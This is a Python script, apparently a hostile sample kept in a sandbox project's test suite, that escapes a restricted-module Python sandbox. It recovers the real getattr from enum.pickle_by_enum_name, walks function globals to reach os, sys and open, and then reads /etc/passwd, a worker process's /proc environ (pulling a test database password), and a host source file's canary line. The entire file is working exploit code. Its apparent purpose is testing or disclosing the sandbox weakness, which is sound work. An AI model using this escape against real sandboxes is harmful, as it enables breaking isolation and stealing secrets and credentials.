# ruff: noqa - a hostile script, kept as written
# threat: 2 reach a module that is not allowed
# technique: enum.pickle_by_enum_name(re.IGNORECASE, 2) returns (getattr, ...): the real getattr -> enum's globals -> sys, os, open
# why: a helper of an allowed module hands back an unguarded builtin; items of a plain tuple are not checked
# escapes: runner a75ee23, wide allowlist
import enum
import re

real_getattr = enum.pickle_by_enum_name(re.IGNORECASE, 2)[0]
module_globals = real_getattr(enum.pickle_by_enum_name, "__globals__")
sys = real_getattr(module_globals["sys"], "__dict__")
os = real_getattr(sys["modules"]["os"], "__dict__")
real_open = module_globals["__builtins__"]["open"]


def read(path):
    handle = real_open(path, "rb")
    try:
        return real_getattr(handle, "read")()
    finally:
        real_getattr(handle, "close")()


def parent_of(pid):
    for line in read("/proc/%d/status" % pid).decode().splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])


# Holding the real getattr and os is the escape; what the child's user may read follows.
found = ["uid=%d" % os["getuid"]()]
try:
    found.append("/etc/passwd: " + read("/etc/passwd").decode().splitlines()[0])
    worker = parent_of(os["getppid"]())  # the fork server's parent
    environment = read("/proc/%d/environ" % worker).split(b"\0")
    canary = [v.decode() for v in environment if v.startswith(b"HOST_TEST_DB_PASSWORD=")]
    found.append("worker %d: %d variables %s" % (worker, len(environment), canary))
    exists = real_getattr(os["path"], "exists")
    for entry in sys["path"]:
        for name in ("/lmcache_host.py", "/sandbox/hosts/lmcache_host.py"):
            if exists(entry + name):
                lines = read(entry + name).decode().splitlines()
                found.append("host source: " + [l for l in lines if "CANARY = " in l][0])
except Exception as exc:
    found.append("stopped by %r" % exc)
result = "ESCAPED real getattr and os reached: " + "; ".join(found)
